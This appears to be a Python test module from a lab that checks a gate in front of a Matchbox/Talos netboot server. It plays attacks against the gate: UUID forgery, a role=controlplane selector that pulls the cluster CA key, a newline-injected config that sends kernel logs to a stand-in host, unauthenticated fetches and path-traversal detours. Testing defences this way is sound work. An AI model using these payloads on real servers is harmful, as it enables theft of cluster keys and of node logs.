"""What an attacker tries. Each attack is one row of the table `make run` shows.

An attack is played against one front and reports what it saw. Against the bare
front every attack must succeed: one that does not proves nothing about a gate.
"""

import dataclasses
import urllib.parse
from typing import Callable

from . import fixture, node, rom, web


@dataclasses.dataclass
class Seen:
    """got: the attacker has what it came for. words: shown in the table."""
    got: bool
    words: str


@dataclasses.dataclass
class Attack:
    name: str
    bare: Callable   # (lab, front) -> Seen


def take_config(lab, front, query):
    """Fetch a config by hand and have Talos' library read it."""
    url = f"{front.config_url}/generic?{query}"
    return node.fetch(url, lab.folder / "attacker.yaml", ca=front.ca)


def has_private_key(text):
    """Does a config carry the cluster's CA key, as control planes' do?"""
    ca = False
    for line in text.splitlines():
        word = line.strip()
        if word == "ca:":
            ca = True
        elif ca and word.startswith("key:"):
            return word not in ("key:", 'key: ""')
    return False


def other_uuid(lab, front):
    """A machine asks with the uuid of another one."""
    mine, theirs = fixture.hardware(4), fixture.hardware(1)
    forged = dataclasses.replace(mine, uuid=theirs.uuid)
    boot = rom.Rom(forged, ca=front.ca).boot(script=front.script())
    got = node.boot(boot, forged, lab.folder / "attacker.yaml", ca=front.ca)
    if got.accepted and got.config.startswith("# edge-worker-1\n"):
        return Seen(True, "edge-worker-1's config")
    return Seen(False, got.last)


def extra_selector(lab, front):
    """A node adds role=controlplane to what its ROM asks."""
    mine = fixture.hardware(4)
    ask = urllib.parse.urlencode({
        "uuid": mine.uuid, "mac": mine.mac.replace(":", "-"),
        "arch": "x86_64", "role": "controlplane"})
    script = web.request(f"{front.boot_url}/ipxe?{ask}", ca=front.ca)
    got = take_config(lab, front, ask)
    if "role=controlplane" in script.text and has_private_key(got.config):
        return Seen(True, "the cluster's CA key")
    return Seen(False, got.last)


INJECTED = ("x\napiVersion: v1alpha1\nkind: KmsgLogConfig\nname: aside\n"
            "url: tcp://192.0.2.1:514/\n---")


def line_break(lab, front):
    """A line break in an argument becomes a line of somebody's config."""
    ask = urllib.parse.urlencode({
        "arch": "x86_64", "role": "controlplane", "asset": INJECTED})
    got = take_config(lab, front, ask)
    if got.accepted and "\nkind: KmsgLogConfig\n" in got.config:
        return Seen(True, "a document of its own")
    return Seen(False, got.last)


def no_token(lab, front):
    """Anybody asks for a node's boot script."""
    uuid = fixture.hardware(1).uuid
    answer = web.request(f"{front.boot_url}/ipxe?uuid={uuid}", ca=front.ca)
    if answer.status == 200 and "\nkernel " in answer.text:
        return Seen(True, "edge-worker-1's script")
    return Seen(False, str(answer.status))


def control_plane(lab, front):
    """Anybody asks for the control plane's config."""
    got = take_config(lab, front, "role=controlplane&arch=x86_64")
    if got.accepted and has_private_key(got.config):
        return Seen(True, "the cluster's CA key")
    return Seen(False, got.last)


def post(lab, front):
    """A method that no ROM and no Talos uses."""
    uuid = fixture.hardware(1).uuid
    answer = web.request(f"{front.config_url}/generic?uuid={uuid}",
                         method="POST", data="x=1", ca=front.ca)
    if answer.status == 200 and "\nmachine:\n" in answer.text:
        return Seen(True, "edge-worker-1's config")
    return Seen(False, str(answer.status))


# Ways to write a path so that a rule for another one is missed. Matchbox
# itself knows nothing of upper case and trailing slashes.
DETOURS = ("//generic?{}", "/x/../generic?{}", "/%67eneric?{}", "/./generic?{}",
           "/GENERIC?{}", "/generic/?{}", "/assets/../generic?{}", "/assets/")


def detours(lab, front):
    """Paths that mean the same to the upstream, and the list of assets."""
    query = f"uuid={fixture.hardware(1).uuid}"
    through = []
    for detour in DETOURS:
        path = detour.format(query)
        answer = web.request(front.config_url + path, ca=front.ca)
        if answer.status == 200:
            through.append(path.partition("?")[0])
    if through:
        return Seen(True, " ".join(through))
    return Seen(False, f"{len(DETOURS)} paths")


ATTACKS = (
    Attack("no token", bare=no_token),
    Attack("another node's uuid", bare=other_uuid),
    Attack("extra selector role=controlplane", bare=extra_selector),
    Attack("%0A in an argument", bare=line_break),
    Attack("the control plane's config", bare=control_plane),
    Attack("POST", bare=post),
    Attack("paths around the gate", bare=detours),
)
